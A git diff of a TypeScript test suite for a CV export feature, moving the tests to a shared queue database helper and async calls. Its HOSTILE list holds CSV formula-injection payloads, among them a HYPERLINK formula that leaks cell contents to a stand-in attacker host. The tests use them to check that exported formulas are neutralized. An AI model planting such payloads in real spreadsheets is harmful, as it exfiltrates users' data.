@@ -2,12 +2,10 @@ import assert from 'node:assert/strict';
 import fs from 'node:fs';
 import path from 'node:path';
 import { parse } from 'csv-parse/sync';
-import { Store } from '../../../src/core/db/store';
 import { CV_CSV_HEADER, csvField, neutralizeFormula } from '../../../src/core/export/csv';
 import { exportCvs } from '../../../src/core/export/exportCvs';
-import { CvRepository } from '../../../src/core/queue/repository';
 import { janeDoe, storeParsed } from '../helpers/sampleCvs';
-import { useTmpDir } from '../helpers/tmp';
+import { useQueueDb } from '../helpers/queueDb';
 
 const HOSTILE = [
   '=HYPERLINK("http://evil.example/?leak="&A1,"Click")', '+1', '-2', '@SUM(A1:A9)', '\t=1+1', '\r=1+1',
@@ -15,25 +13,19 @@ const HOSTILE = [
 ];
 
 describe('CSV export', () => {
-  let store: Store;
-  let cvs: CvRepository;
-  const tmp = useTmpDir(() => store.close());
+  const q = useQueueDb();
+  const tmp = () => q.dir;
   const now = new Date('2026-11-28T00:00:00Z');
-
-  beforeEach(async () => {
-    store = await Store.open(path.join(tmp(), 'samsara.db'));
-    cvs = new CvRepository(store);
-  });
 
   async function exportAndRead(options: { status?: 'all' } = {}): Promise<{ bytes: Buffer; rows: string[][] }> {
     const out = path.join(tmp(), 'export', 'cvs.csv');
-    await exportCvs(cvs, { format: 'csv', out, now, ...options });
+    await exportCvs(q.cvs, { format: 'csv', out, now, ...options });
     const bytes = fs.readFileSync(out);
     return { bytes, rows: parse(bytes, { bom: true, relax_column_count: false }) as string[][] };
   }
 
   it('writes UTF-8 with a BOM, CRLF line ends and one row per CV', async () => {
-    storeParsed(cvs, 'jane.pdf', janeDoe());
+    await storeParsed(q.cvs, 'jane.pdf', janeDoe());
     const { bytes, rows } = await exportAndRead();
     assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
     const text = bytes.toString('utf8');
@@ -48,7 +40,7 @@ describe('CSV export', () => {
 
   it('round-trips hostile cells through a real CSV parser, with formulas made inert', async () => {
     for (const [i, cell] of HOSTILE.entries()) {
-      storeParsed(cvs, `${i}.pdf`, janeDoe({
+      await storeParsed(q.cvs, `${i}.pdf`, janeDoe({
         contact: { name: cell, email: cell, location: cell, phone: cell },
         work_history: [{ title: cell, company: cell, current: true }],
         skills: [cell, `${cell} 2`],
@@ -67,7 +59,7 @@ describe('CSV export', () => {
     }
   });
 
-  it('quotes only what needs quoting and neutralizes only formula starts', () => {
+  it('quotes only what needs quoting and neutralizes only formula starts', async () => {
     assert.equal(csvField('plain'), 'plain');
     assert.equal(csvField('a,b'), '"a,b"');
     assert.equal(csvField('say "hi"'), '"say ""hi"""');
@@ -79,16 +71,16 @@ describe('CSV export', () => {
 
   it('keeps the first ten distinct skills and leaves unparsed CVs with just status and file', async () => {
     const skills = ['A', 'b', 'B', 'c', 'd', 'e', 'f', 'g', 'h', 'i', 'j', 'k', 'l'];
-    storeParsed(cvs, 'many.pdf', janeDoe({ skills }));
-    const failed = cvs.insertQueuedCV({ filePath: '/cvs/broken, "really".pdf', fileName: 'broken.pdf' });
-    cvs.updateCVStatus(failed.id, 'failed', { error: 'encrypted PDF' });
+    await storeParsed(q.cvs, 'many.pdf', janeDoe({ skills }));
+    const failed = await q.cvs.insertQueuedCV({ filePath: '/cvs/broken, "really".pdf', fileName: 'broken.pdf' });
+    await q.cvs.updateCVStatus(failed.id, 'failed', { error: 'encrypted PDF' });
     const { rows } = await exportAndRead({ status: 'all' });
     assert.equal(rows[1][7], 'A; b; c; d; e; f; g; h; i; j');
     assert.deepEqual(rows[2], ['', '', '', '', '', '', '', '', 'failed', '/cvs/broken, "really".pdf']);
   });
 
   it('exports only completed CVs by default, and a header alone when there are none', async () => {
-    cvs.insertQueuedCV({ filePath: '/cvs/q.pdf', fileName: 'q.pdf' });
+    await q.cvs.insertQueuedCV({ filePath: '/cvs/q.pdf', fileName: 'q.pdf' });
     const { rows } = await exportAndRead();
     assert.deepEqual(rows, [[...CV_CSV_HEADER]]);
   });
